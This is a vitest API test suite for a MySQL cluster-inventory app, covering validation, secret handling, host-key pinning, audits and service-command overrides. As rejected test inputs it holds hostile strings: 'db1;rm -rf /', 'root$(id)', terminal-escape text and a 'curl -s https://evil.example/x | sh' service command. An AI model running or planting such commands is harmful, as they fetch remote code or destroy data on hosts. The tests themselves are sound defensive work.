import { describe, expect, it, beforeEach } from 'vitest';
import * as hostKeyRoute from '@/app/api/clusters/[name]/nodes/[node]/host-key/route';
import { loadProbeCredential } from '@/agents/load-targets';
import { listAudit } from '@/lib/audit/list-audit';
import { exportCluster } from '@/lib/clusters/export-cluster';
import { importCluster } from '@/lib/clusters/import-cluster';
import { parseWith, ZClusterDocumentSchema } from '@/lib/clusters/schema';
import { getDb } from '@/lib/db/client';
import { api, authHeaders } from '../support/api';
import { sampleDoc, sampleNode, privateKey, type TDoc, type TDocNode } from '../support/fixtures';
import { testDatabase } from '../support/use-test-database';

const countRows = async () => {
  const db = await getDb();
  return { clusters: await db.cluster.count(), nodes: await db.node.count() };
};

const fieldsOf = (body: unknown): Record<string, string> => {
  expect(body).toMatchObject({ error: 'invalid' });
  return (body as { fields: Record<string, string> }).fields;
};

beforeEach(async () => {
  const db = await getDb();
  await db.node.deleteMany({});
  await db.cluster.deleteMany({});
});

describe('GET /api/health', () => {
  it('reports ok and which inventory database is in use', async () => {
    const res = await api('GET', '/api/health');
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ ok: true, db: testDatabase().dialect });
  });
});

describe('POST /api/clusters', () => {
  it('registers a cluster and lists it, applying defaults', async () => {
    const doc = sampleDoc();
    delete doc.nodes[1]?.ssh.port;
    const res = await api('POST', '/api/clusters', { json: doc });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ cluster: { name: 'lab', vip: '198.18.0.100', virtualRouterId: 51, nodes: [{ name: 'node1' }, { name: 'node2', ssh: { port: 22 } }] } });
    const list = await api('GET', '/api/clusters');
    expect(list.body).toMatchObject({ clusters: [{ name: 'lab', nodes: [{ host: '198.18.0.11' }, { host: '198.18.0.12' }] }] });
    expect(await countRows()).toEqual({ clusters: 1, nodes: 2 });
  });

  it('accepts IPv6 and DNS hosts and normalises their case', async () => {
    const doc = sampleDoc({ vip: '2001:DB8::100' });
    doc.nodes[0]!.host = 'DB1.Example.com';
    doc.nodes[1]!.host = '2001:db8::12';
    const res = await api('POST', '/api/clusters', { json: doc });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ cluster: { vip: '2001:db8::100', nodes: [{ host: 'db1.example.com' }, { host: '2001:db8::12' }] } });
  });

  it('answers 400 for two spellings of one node host, and stores nothing', async () => {
    const doc = sampleDoc({ vip: '198.18.0.100' });
    doc.nodes[0]!.host = '::1';
    doc.nodes[1]!.host = '0:0:0:0:0:0:0:1';
    const res = await api('POST', '/api/clusters', { json: doc });
    expect(res.status).toBe(400);
    expect(fieldsOf(res.body)).toEqual({ 'nodes.1.host': 'duplicates the host of nodes.0' });
    const mapped = sampleDoc({ vip: '::ffff:198.18.0.11' });
    expect(fieldsOf((await api('POST', '/api/clusters', { json: mapped })).body)).toHaveProperty(['vip']);
    expect(await countRows()).toEqual({ clusters: 0, nodes: 0 });
  });

  it('stores and returns hosts in their normalised spelling', async () => {
    const doc = sampleDoc({ vip: '0:0:0:0:0:0:0:1' });
    doc.nodes[0]!.host = '::FFFF:198.18.0.11';
    doc.nodes[1]!.host = 'Node2.Example.com.';
    expect((await api('POST', '/api/clusters', { json: doc })).status).toBe(201);
    expect((await api('GET', '/api/clusters/lab')).body).toMatchObject({ cluster: { vip: '::1', nodes: [{ host: '198.18.0.11' }, { host: 'node2.example.com' }] } });
    const patched = await api('PATCH', '/api/clusters/lab', { json: { vip: '::ffff:198.18.0.11' } });
    expect(patched.status).toBe(400);
    expect(fieldsOf(patched.body)).toHaveProperty(['vip']);
  });

  it('refuses the cluster name "new", which /clusters/new (the Add form) shadows', async () => {
    const res = await api('POST', '/api/clusters', { json: sampleDoc({ name: 'new' }) });
    expect(res.status).toBe(400);
    expect(fieldsOf(res.body)).toEqual({ name: expect.stringContaining('is reserved') });
  });

  it('answers 400 for malformed JSON and stores nothing', async () => {
    const res = await api('POST', '/api/clusters', { raw: '{"name": "lab", ' });
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ error: 'malformed_json' });
    expect(await countRows()).toEqual({ clusters: 0, nodes: 0 });
  });

  it('answers 415 when the body is not declared as JSON', async () => {
    const res = await api('POST', '/api/clusters', { raw: JSON.stringify(sampleDoc()), headers: { 'content-type': 'text/plain' } });
    expect(res.status).toBe(415);
    expect(await countRows()).toEqual({ clusters: 0, nodes: 0 });
  });

  const invalid: [string, (d: TDoc) => void, string][] = [
    ['an upper-case cluster name', (d) => void (d.name = 'Lab'), 'name'],
    ['a cluster name starting with a dash', (d) => void (d.name = '-lab'), 'name'],
    ['a 64-character cluster name', (d) => void (d.name = 'a'.repeat(64)), 'name'],
    ['a VIP that is a DNS name', (d) => void (d.vip = 'vip.example.com'), 'vip'],
    ['a VIP equal to a node host', (d) => void (d.vip = '198.18.0.12'), 'vip'],
    ['a single node', (d) => void (d.nodes = [sampleNode(1)]), 'nodes'],
    ['a malformed IPv4 host', (d) => void (d.nodes[1]!.host = '198.18.0.300'), 'nodes.1.host'],
    ['a host with a space', (d) => void (d.nodes[1]!.host = 'db 2'), 'nodes.1.host'],
    ['a host with shell metacharacters', (d) => void (d.nodes[0]!.host = 'db1;rm -rf /'), 'nodes.0.host'],
    ['duplicate node hosts', (d) => void (d.nodes[1]!.host = '198.18.0.11'), 'nodes.1.host'],
    ['duplicate node names', (d) => void (d.nodes[1]!.name = 'node1'), 'nodes.1.name'],
    ['SSH port 0', (d) => void (d.nodes[0]!.ssh.port = 0), 'nodes.0.ssh.port'],
    ['MySQL port 65536', (d) => void (d.nodes[1]!.mysql.port = 65536), 'nodes.1.mysql.port'],
    ['a port given as text', (d) => void (d.nodes[1]!.mysql.port = '3306'), 'nodes.1.mysql.port'],
    ['a missing private key', (d) => void delete d.nodes[1]!.ssh.privateKey, 'nodes.1.ssh.privateKey'],
    ['a private key that is not PEM', (d) => void (d.nodes[1]!.ssh.privateKey = 'ssh-ed25519 AAAA'), 'nodes.1.ssh.privateKey'],
    ['a missing MySQL password', (d) => void delete d.nodes[0]!.mysql.password, 'nodes.0.mysql.password'],
    ['an SSH user with a shell metacharacter', (d) => void (d.nodes[0]!.ssh.user = 'root$(id)'), 'nodes.0.ssh.user'],
    ['a virtual_router_id of 256', (d) => void (d.virtualRouterId = 256), 'virtualRouterId'],
    ['a lag threshold of 0 seconds', (d) => void (d.lagThresholdSeconds = 0), 'lagThresholdSeconds'],
    ['a heartbeat flag given as text', (d) => void (d.heartbeat = 'yes'), 'heartbeat'],
    ['an unknown field', (d) => void (d.nodes[0]!.mysql.pasword = 'typo'), 'nodes.0.mysql.pasword'],
    ['a description with a NUL (it once cut the stored text short)', (d) => void (d.description = 'primary\u0000 and the rest'), 'description'],
    ['a description with a terminal escape and a newline', (d) => void (d.description = 'ok\u001b[2J\nforged row'), 'description'],
    ['a description with a right-to-left override', (d) => void (d.description = 'pair \u202etxt.exe'), 'description'],
  ];

  it.each(invalid)('answers 400 naming the field for %s, and stores nothing', async (_label, mutate, field) => {
    const doc = sampleDoc();
    mutate(doc);
    const res = await api('POST', '/api/clusters', { json: doc });
    expect(res.status).toBe(400);
    expect(Object.keys(fieldsOf(res.body))).toContain(field);
    expect(await countRows()).toEqual({ clusters: 0, nodes: 0 });
  });

  it('answers 400 with fields for a body that is not an object', async () => {
    const res = await api('POST', '/api/clusters', { json: ['lab'] });
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ error: 'invalid' });
  });

  it('answers 409 for a duplicate name and keeps the first cluster intact', async () => {
    expect((await api('POST', '/api/clusters', { json: sampleDoc() })).status).toBe(201);
    const second = sampleDoc({ vip: '198.18.0.200' });
    const res = await api('POST', '/api/clusters', { json: second });
    expect(res.status).toBe(409);
    expect(res.body).toMatchObject({ error: 'conflict', fields: { name: 'is already taken' } });
    expect((await api('GET', '/api/clusters/lab')).body).toMatchObject({ cluster: { vip: '198.18.0.100' } });
    expect(await countRows()).toEqual({ clusters: 1, nodes: 2 });
  });

  it('answers 413 for a body over 1 MiB, declared or streamed', async () => {
    const big = JSON.stringify({ ...sampleDoc(), description: 'x'.repeat(1024 * 1024) });
    expect((await api('POST', '/api/clusters', { raw: big })).status).toBe(413);
    const chunk = new TextEncoder().encode('x'.repeat(64 * 1024));
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull: (controller) => {
        if (sent >= 40) return controller.close();
        sent += 1;
        controller.enqueue(chunk);
      },
    });
    const res = await api('POST', '/api/clusters', { raw: stream });
    expect(res.status).toBe(413);
    expect(sent).toBeLessThan(40);
    expect(await countRows()).toEqual({ clusters: 0, nodes: 0 });
  });
});

describe('/api/clusters/:name', () => {
  beforeEach(async () => {
    expect((await api('POST', '/api/clusters', { json: sampleDoc() })).status).toBe(201);
  });

  it('answers 404 for an unknown cluster on every method', async () => {
    for (const [method, url, json] of [
      ['GET', '/api/clusters/nope', undefined],
      ['PATCH', '/api/clusters/nope', { vip: '198.18.0.200' }],
      ['DELETE', '/api/clusters/nope', undefined],
      ['GET', '/api/clusters/nope/export', undefined],
    ] as const) {
      const res = await api(method, url, json === undefined ? {} : { json });
      expect(res.status, `${method} ${url}`).toBe(404);
      expect(res.body).toMatchObject({ error: 'not_found' });
    }
  });

  it('answers 404 for a name that only aliases one (trailing space, capitals, tab), and changes nothing', async () => {
    for (const alias of ['lab%20', 'LAB', 'lab%09', '%20lab']) {
      for (const [method, json] of [['GET', undefined], ['PATCH', { description: 'hijacked' }], ['DELETE', undefined]] as const) {
        const res = await api(method, `/api/clusters/${alias}`, json === undefined ? {} : { json });
        expect(res.status, `${method} ${alias}`).toBe(404);
      }
    }
    expect(await api('GET', '/api/clusters/lab')).toMatchObject({ status: 200, body: { cluster: { description: 'test pair' } } });
  });

  it('patches cluster fields and keeps secrets that were not sent', async () => {
    const db = await getDb();
    const before = await db.node.findMany({ select: { name: true, sshPrivateKeyEnc: true, mysqlPasswordEnc: true }, orderBy: { name: 'asc' } });
    const res = await api('PATCH', '/api/clusters/lab', {
      json: {
        vip: '198.18.0.101',
        description: null,
        nodes: [
          { name: 'node1', host: '198.18.0.11', ssh: { user: 'tandem' }, mysql: { user: 'monitor' } },
          { name: 'node2', host: '198.18.0.12', ssh: {}, mysql: { user: 'tandem', password: 'new-password' } },
        ],
      },
    });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ cluster: { vip: '198.18.0.101', description: null, nodes: [{ ssh: { user: 'tandem' }, mysql: { user: 'monitor' } }, { name: 'node2' }] } });
    const after = await db.node.findMany({ select: { name: true, sshPrivateKeyEnc: true, mysqlPasswordEnc: true }, orderBy: { name: 'asc' } });
    expect(after[0]).toEqual(before[0]);
    expect(after[1]?.sshPrivateKeyEnc).toBe(before[1]?.sshPrivateKeyEnc);
    expect(after[1]?.mysqlPasswordEnc).not.toBe(before[1]?.mysqlPasswordEnc);
  });

  it('refuses to re-point a node (host or SSH port) with its stored secrets: they must be sent again', async () => {
    const db = await getDb();
    const before = await db.node.findMany({ orderBy: { name: 'asc' }, omit: { sshPrivateKeyEnc: false, mysqlPasswordEnc: false } });
    for (const moved of [{ host: '203.0.113.66', ssh: {} }, { host: '198.18.0.11', ssh: { port: 2222 } }]) {
      const res = await api('PATCH', '/api/clusters/lab', { json: { nodes: [{ name: 'node1', ...moved, mysql: { user: 'tandem' } }, sampleNode(2)] } });
      expect(res.status).toBe(400);
      expect(fieldsOf(res.body)).toEqual({ 'nodes.0.ssh.privateKey': 'must be sent again: the host or SSH port changed', 'nodes.0.mysql.password': 'must be sent again: the host or SSH port changed' });
      // Only the password: still refused.
      const half = await api('PATCH', '/api/clusters/lab', { json: { nodes: [{ name: 'node1', ...moved, mysql: { user: 'tandem', password: 'x' } }, sampleNode(2)] } });
      expect(fieldsOf(half.body)).toEqual({ 'nodes.0.ssh.privateKey': 'must be sent again: the host or SSH port changed' });
    }
    expect(await db.node.findMany({ orderBy: { name: 'asc' }, omit: { sshPrivateKeyEnc: false, mysqlPasswordEnc: false } })).toEqual(before);
  });

  it('keeps the pinned host key when a node moves, pins the key a document names, and audits the move', async () => {
    const db = await getDb();
    const pinned = `SHA256:${'k'.repeat(43)}`;
    await db.node.updateMany({ data: { sshHostKeyFingerprint: pinned } });
    const moved = await api('PATCH', '/api/clusters/lab', { json: { nodes: [sampleNode(1), { ...sampleNode(2), host: '198.18.0.22' }] } });
    expect(moved.status).toBe(200);
    expect(moved.body).toMatchObject({ cluster: { nodes: [{ ssh: { hostKeyFingerprint: pinned } }, { host: '198.18.0.22', ssh: { hostKeyFingerprint: pinned } }] } });
    expect((await listAudit({ db, action: 'cluster.update', limit: 1 }))[0]?.detail).toContain('"repointed":["node2"]');

    const expected = `SHA256:${'e'.repeat(43)}`;
    const named = await api('PATCH', '/api/clusters/lab', { json: { nodes: [sampleNode(1), { ...sampleNode(2), ssh: { ...sampleNode(2).ssh, hostKeyFingerprint: expected } }] } });
    expect(named.body).toMatchObject({ cluster: { nodes: [{ ssh: { hostKeyFingerprint: pinned } }, { ssh: { hostKeyFingerprint: expected } }] } });
    expect((await api('GET', '/api/clusters/lab/export')).body).toMatchObject({ nodes: [{ ssh: { hostKeyFingerprint: pinned } }, { ssh: { hostKeyFingerprint: expected } }] });
    const bad = await api('PATCH', '/api/clusters/lab', { json: { nodes: [sampleNode(1), { ...sampleNode(2), ssh: { ...sampleNode(2).ssh, hostKeyFingerprint: 'md5:aa:bb' } }] } });
    expect(fieldsOf(bad.body)).toHaveProperty(['nodes.1.ssh.hostKeyFingerprint']);
  });

  it('refuses a new VIP with the stored probe password: it must be sent again', async () => {
    expect((await api('PATCH', '/api/clusters/lab', { json: { probe: { user: 'tandem_probe', password: 'probe-secret' } } })).status).toBe(200);
    const refused = await api('PATCH', '/api/clusters/lab', { json: { vip: '198.18.0.150' } });
    expect(refused.status).toBe(400);
    expect(fieldsOf(refused.body)).toEqual({ 'probe.password': 'must be sent again: the VIP changed' });
    expect((await api('PATCH', '/api/clusters/lab', { json: { vip: '198.18.0.150', probe: { user: 'tandem_probe', password: 'probe-secret' } } })).status).toBe(200);
  });

  it('approves a node\'s new host key for admins only, audited', async () => {
    const offered = `SHA256:${'n'.repeat(43)}`;
    const call = async (as: 'admin' | 'viewer', node: string, fingerprint: string) =>
      hostKeyRoute.POST(new Request('http://127.0.0.1/x', { method: 'POST', headers: { 'content-type': 'application/json', ...(await authHeaders(as)) }, body: JSON.stringify({ fingerprint }) }), { params: Promise.resolve({ name: 'lab', node }) });
    expect((await call('viewer', 'node1', offered)).status).toBe(403);
    expect((await call('admin', 'node1', 'SHA256:short')).status).toBe(400);
    expect((await call('admin', 'nope', offered)).status).toBe(404);
    expect((await call('admin', 'node1 ', offered)).status).toBe(404);
    const ok = await call('admin', 'node1', offered);
    expect(ok.status).toBe(200);
    expect((await api('GET', '/api/clusters/lab')).body).toMatchObject({ cluster: { nodes: [{ ssh: { hostKeyFingerprint: offered } }, {}] } });
    expect((await listAudit({ db: await getDb(), action: 'node.host-key.approve', limit: 1 }))[0]).toMatchObject({ target: 'lab/node1', result: 'ok' });
  });

  it('adds and removes nodes, requiring secrets for a new node', async () => {
    const third = { name: 'node3', host: '198.18.0.13', ssh: {}, mysql: { user: 'tandem' } };
    const keep = (i: number) => ({ name: `node${i}`, host: `198.18.0.${10 + i}`, ssh: {}, mysql: { user: 'tandem' } });
    const refused = await api('PATCH', '/api/clusters/lab', { json: { nodes: [keep(1), keep(2), third] } });
    expect(refused.status).toBe(400);
    expect(fieldsOf(refused.body)).toMatchObject({ 'nodes.2.ssh.privateKey': expect.any(String), 'nodes.2.mysql.password': expect.any(String) });
    expect(await countRows()).toEqual({ clusters: 1, nodes: 2 });

    const added = await api('PATCH', '/api/clusters/lab', {
      json: { nodes: [keep(1), { ...third, ssh: { privateKey: privateKey() }, mysql: { user: 'tandem', password: 'p3' } }] },
    });
    expect(added.status).toBe(200);
    expect(added.body).toMatchObject({ cluster: { nodes: [{ name: 'node1' }, { name: 'node3' }] } });
    expect(await countRows()).toEqual({ clusters: 1, nodes: 2 });
  });

  it('lets two nodes swap hosts in one patch (with their secrets, as for any move)', async () => {
    const res = await api('PATCH', '/api/clusters/lab', {
      json: { nodes: [{ ...sampleNode(1), host: '198.18.0.12' }, { ...sampleNode(2), host: '198.18.0.11' }] },
    });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ cluster: { nodes: [{ name: 'node1', host: '198.18.0.12' }, { name: 'node2', host: '198.18.0.11' }] } });
  });

  it('rolls back the whole patch when a later step fails', async () => {
    // The cluster row is updated before the node list is checked; the
    // failure must undo that update too.
    const res = await api('PATCH', '/api/clusters/lab', {
      json: { vip: '198.18.0.150', nodes: [sampleNode(1), { name: 'node9', host: '198.18.0.19', ssh: {}, mysql: { user: 'x' } }] },
    });
    expect(res.status).toBe(400);
    const now = await api('GET', '/api/clusters/lab');
    expect(now.body).toMatchObject({ cluster: { vip: '198.18.0.100', nodes: [{ name: 'node1' }, { name: 'node2' }] } });
  });

  it('refuses a patched VIP that equals a kept node host', async () => {
    const res = await api('PATCH', '/api/clusters/lab', { json: { vip: '198.18.0.11' } });
    expect(res.status).toBe(400);
    expect(fieldsOf(res.body)).toHaveProperty('vip');
  });

  it('renames a cluster, and answers 409 when the new name is taken', async () => {
    expect((await api('POST', '/api/clusters', { json: sampleDoc({ name: 'other', vip: '198.18.0.200' }) })).status).toBe(201);
    expect((await api('PATCH', '/api/clusters/other', { json: { name: 'lab' } })).status).toBe(409);
    const renamed = await api('PATCH', '/api/clusters/other', { json: { name: 'second' } });
    expect(renamed.status).toBe(200);
    expect((await api('GET', '/api/clusters/second')).status).toBe(200);
    expect((await api('GET', '/api/clusters/other')).status).toBe(404);
  });

  it('deletes a cluster with its nodes', async () => {
    const res = await api('DELETE', '/api/clusters/lab');
    expect(res.status).toBe(204);
    expect((await api('GET', '/api/clusters/lab')).status).toBe(404);
    expect(await countRows()).toEqual({ clusters: 0, nodes: 0 });
  });

  it('exports the inventory document without secrets, ready to re-import with them', async () => {
    const res = await api('GET', '/api/clusters/lab/export');
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      name: 'lab',
      vip: '198.18.0.100',
      description: 'test pair',
      virtualRouterId: 51,
      lagThresholdSeconds: 30,
      switchoverCooldownSeconds: 300,
      heartbeat: false,
      nodes: [
        { name: 'node1', host: '198.18.0.11', ssh: { port: 22, user: 'root' }, mysql: { port: 3306, user: 'tandem' } },
        { name: 'node2', host: '198.18.0.12', ssh: { port: 22, user: 'root' }, mysql: { port: 3306, user: 'tandem' } },
      ],
    });
  });
});

describe('importing a document over a stored cluster', () => {
  it('replaces the probe credential with the document\'s (a rebuilt lab has a new probe password)', async () => {
    const db = await getDb();
    await db.node.deleteMany({});
    await db.cluster.deleteMany({});
    const doc = (password: string) => parseWith(ZClusterDocumentSchema, { ...sampleDoc(), probe: { user: 'probe', password } });
    await importCluster({ db, doc: doc('first-probe-password') });
    const before = await db.cluster.findUniqueOrThrow({ where: { name: 'lab' }, omit: { probePasswordEnc: false } });
    await importCluster({ db, doc: doc('second-probe-password') });
    const after = await db.cluster.findUniqueOrThrow({ where: { name: 'lab' }, omit: { probePasswordEnc: false } });
    expect(after.probePasswordEnc).not.toBe(before.probePasswordEnc);
    expect(await loadProbeCredential({ db, cluster: 'lab' })).toMatchObject({ user: 'probe', password: 'second-probe-password' });
    await importCluster({ db, doc: parseWith(ZClusterDocumentSchema, sampleDoc()) });
    expect(await loadProbeCredential({ db, cluster: 'lab' })).toBeNull();
  });
});

describe('node service commands (services)', () => {
  const drillCommands = { stopMysql: "'/srv/lab/service.sh' stop-mysql", startMysql: "'/srv/lab/service.sh' start-mysql", isolate: 'sudo /usr/local/sbin/isolate', heal: 'sudo /usr/local/sbin/heal' };
  // A node as the edit form sends it: no secrets.
  const bare = (i: number, extra: Record<string, unknown> = {}) => ({ name: `node${i}`, host: `198.18.0.${10 + i}`, ssh: {}, mysql: { user: 'tandem' }, ...extra });
  const stored = async () => (await getDb()).node.findMany({ orderBy: { name: 'asc' }, omit: { sshPrivateKeyEnc: false, mysqlPasswordEnc: false } });

  beforeEach(async () => {
    const doc = sampleDoc();
    (doc.nodes[0] as TDocNode & { services?: unknown }).services = drillCommands;
    expect((await api('POST', '/api/clusters', { json: doc })).status).toBe(201);
  });

  it('stores a node\'s overrides and shows them (null where the defaults apply)', async () => {
    expect((await api('GET', '/api/clusters/lab')).body).toMatchObject({ cluster: { nodes: [{ name: 'node1', services: drillCommands }, { name: 'node2', services: null }] } });
    expect((await stored()).map((n) => n.serviceCommands)).toEqual([JSON.stringify(drillCommands), null]);
  });

  it('refuses to set, change or remove them without the node\'s private key, and changes nothing', async () => {
    const before = await stored();
    for (const [nodes, at] of [
      [[bare(1, { services: { ...drillCommands, stopMysql: 'curl -s https://evil.example/x | sh' } }), bare(2)], 0],
      [[bare(1, { services: null }), bare(2)], 0],
      [[bare(1), bare(2, { services: { killMysql: 'pkill -9 mariadbd' } })], 1],
      // Only the password is not enough.
      [[bare(1), bare(2, { services: { killMysql: 'x' }, mysql: { user: 'tandem', password: 'p' } })], 1],
    ] as const) {
      const res = await api('PATCH', '/api/clusters/lab', { json: { description: 'changed', nodes } });
      expect(res.status).toBe(400);
      expect(fieldsOf(res.body)).toEqual({ [`nodes.${at}.ssh.privateKey`]: 'must be sent with a change to services: service commands run on the node as its SSH user' });
    }
    expect(await stored()).toEqual(before);
    expect((await api('GET', '/api/clusters/lab')).body).toMatchObject({ cluster: { description: 'test pair' } });
  });

  it('keeps them when a node is sent without them or with the same ones, without the key', async () => {
    const res = await api('PATCH', '/api/clusters/lab', { json: { nodes: [bare(1, { ssh: { user: 'admin' } }), bare(2)] } });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ cluster: { nodes: [{ ssh: { user: 'admin' }, services: drillCommands }, { services: null }] } });
    const reordered = { heal: drillCommands.heal, isolate: drillCommands.isolate, startMysql: drillCommands.startMysql, stopMysql: ` ${drillCommands.stopMysql} ` };
    expect((await api('PATCH', '/api/clusters/lab', { json: { nodes: [bare(1, { services: reordered }), bare(2, { services: {} })] } })).status).toBe(200);
  });

  it('changes and removes them with the key, audited', async () => {
    const changed = { stopMysql: 'sudo systemctl stop mysql', startMysql: 'sudo systemctl start mysql' };
    const res = await api('PATCH', '/api/clusters/lab', { json: { nodes: [sampleNode(1), { ...sampleNode(2), services: changed }] } });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ cluster: { nodes: [{ services: drillCommands }, { services: changed }] } });
    expect((await listAudit({ db: await getDb(), action: 'cluster.update', limit: 1 }))[0]?.detail).toContain('"servicesChanged":["node2"]');
    const removed = await api('PATCH', '/api/clusters/lab', { json: { nodes: [{ ...sampleNode(1), services: null }, bare(2)] } });
    expect(removed.body).toMatchObject({ cluster: { nodes: [{ services: null }, { services: changed }] } });
  });

  it('go out with the export and come back with an import: the round trip keeps them', async () => {
    const db = await getDb();
    const exported = await exportCluster({ db, name: 'lab' });
    expect(exported.nodes.map((n) => n.services)).toEqual([drillCommands, undefined]);
    expect((await api('GET', '/api/clusters/lab/export')).body).toEqual(exported);
    const withSecrets = { ...exported, nodes: exported.nodes.map((n, i) => ({ ...n, ssh: { ...n.ssh, privateKey: sampleNode(i + 1).ssh.privateKey }, mysql: { ...n.mysql, password: 'pw' } })) };
    await db.node.deleteMany({});
    await db.cluster.deleteMany({});
    expect((await importCluster({ db, doc: parseWith(ZClusterDocumentSchema, withSecrets) })).action).toBe('created');
    expect(await exportCluster({ db, name: 'lab' })).toEqual(exported);
    // Importing over it is a replacement: a node without services goes back to the defaults.
    const { nodes: [first, second] } = withSecrets;
    const replaced = await importCluster({ db, doc: parseWith(ZClusterDocumentSchema, { ...withSecrets, nodes: [{ ...first, services: undefined }, { ...second, services: drillCommands }] }) });
    expect(replaced).toMatchObject({ action: 'updated', servicesChanged: ['node1', 'node2'], cluster: { nodes: [{ services: null }, { services: drillCommands }] } });
  });
});
